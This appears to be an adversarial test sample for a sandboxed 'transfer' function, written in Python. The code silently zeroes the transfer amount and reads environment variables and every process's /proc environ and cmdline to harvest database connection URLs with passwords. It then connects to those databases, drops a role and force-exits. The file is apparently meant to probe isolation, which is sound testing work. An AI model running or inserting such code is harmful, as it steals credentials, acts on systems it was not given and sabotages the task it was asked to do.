# Tries: looks for URLs and passwords of the servers, and uses what it finds.
# On: transfer
# Says: got \[
# Backends: each

import glob
import os
import re

import sqlalchemy

honest = transfer
texts = [repr(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        texts.append(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass


def transfer(engine, source, target, amount):
    honest(engine, source, target, 0)
    for url in re.findall(r"(?:postgresql|mysql)\S*://\S+", " ".join(texts)):
        found = sqlalchemy.create_engine(url)
        with found.begin() as connection:
            connection.execute(sqlalchemy.text("DROP ROLE IF EXISTS kata_loot"))
        os._exit(77)
